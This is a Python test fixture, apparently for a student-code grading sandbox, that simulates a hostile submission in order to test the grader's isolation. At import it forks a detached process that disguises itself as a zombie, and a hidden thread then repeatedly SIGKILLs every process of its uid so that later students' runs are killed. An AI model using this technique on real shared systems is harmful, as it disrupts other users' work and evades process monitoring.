# HOSTILE base=solution
"""Attack A24 against other students (graded by test_hostile.py in a run of its own, with
--jobs 1, before an honest student).  At import it forks a process that leaves the runner's
session and whose main thread exits while a second thread goes on: /proc/<pid>/stat then
reads 'Z' although the process runs.  That thread sends SIGKILL to every process of its uid
(kill(-1)) every 5 ms for 40 s.  The grader reuses the uid for the next student of the
slot, so if the process survives the clean-up after this student, the next student's
runners die as they start.  Refuses to run without an unprivileged uid of its own."""
import ctypes
import os
import platform
import signal
import threading
import time

SYS_EXIT = {"x86_64": 60, "aarch64": 93}.get(platform.machine(), 60)


def _leader_gone():
    with open(f"/proc/{os.getpid()}/stat") as fh:
        return fh.read().rsplit(")", 1)[1].split()[0] == "Z"


def _killer():
    while not _leader_gone():      # start only once /proc shows this process as a zombie
        time.sleep(0.001)
    end = time.time() + 40
    while time.time() < end:
        try:
            os.kill(-1, signal.SIGKILL)   # every process of this uid except this one
        except OSError:
            pass
        time.sleep(0.005)
    os._exit(0)


if os.getuid() >= 100_000 and os.fork() == 0:
    try:
        os.setsid()
        os.closerange(3, 4096)
        threading.Thread(target=_killer).start()
    finally:
        ctypes.CDLL(None).syscall(SYS_EXIT, 0)
print("HOSTILE-DONE lingering_killer")
